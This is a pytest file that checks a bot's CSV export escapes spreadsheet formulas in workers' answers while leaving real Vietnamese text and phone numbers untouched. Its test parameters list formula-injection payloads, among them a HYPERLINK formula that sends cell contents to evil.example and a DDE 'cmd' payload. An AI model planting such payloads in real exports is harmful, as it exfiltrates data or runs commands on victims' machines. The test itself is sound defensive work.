"""Exports are safe to open: no formula from a worker's answer ever runs in Excel."""

from __future__ import annotations

import csv
import io

import pytest

from bot.services.export import BOM, cell, neutralised, write_csv
from storage.initiatives import EXPORT_COLUMNS


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
        "=1+1",
        "@SUM(A1:A9)",
        "+cmd|' /C calc'!A0",
        "-2+3*A1",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formulas_are_written_as_text(attack: str) -> None:
    assert neutralised(attack).startswith("'")


@pytest.mark.parametrize(
    "genuine", ["-5% hàng lỗi", "+84 912 345 678", "- giảm bụi", "Bình thường"]
)
def test_genuine_values_stay_readable(genuine: str) -> None:
    assert neutralised(genuine) == genuine


def test_the_csv_has_a_bom_and_neutralised_cells() -> None:
    row = dict.fromkeys(EXPORT_COLUMNS)
    row |= {"id": 1, "author_name": '=HYPERLINK("x")', "problem": "-5% hàng lỗi", "applied": True}
    out = io.StringIO()
    assert write_csv(out, [row]) == 1
    text = out.getvalue()
    assert text.startswith(BOM)
    [parsed] = list(csv.DictReader(io.StringIO(text.removeprefix(BOM))))
    assert parsed["author_name"] == '\'=HYPERLINK("x")'
    assert parsed["problem"] == "-5% hàng lỗi" and parsed["applied"] == "yes"
    assert cell(None) == "" and cell(3) == "3"
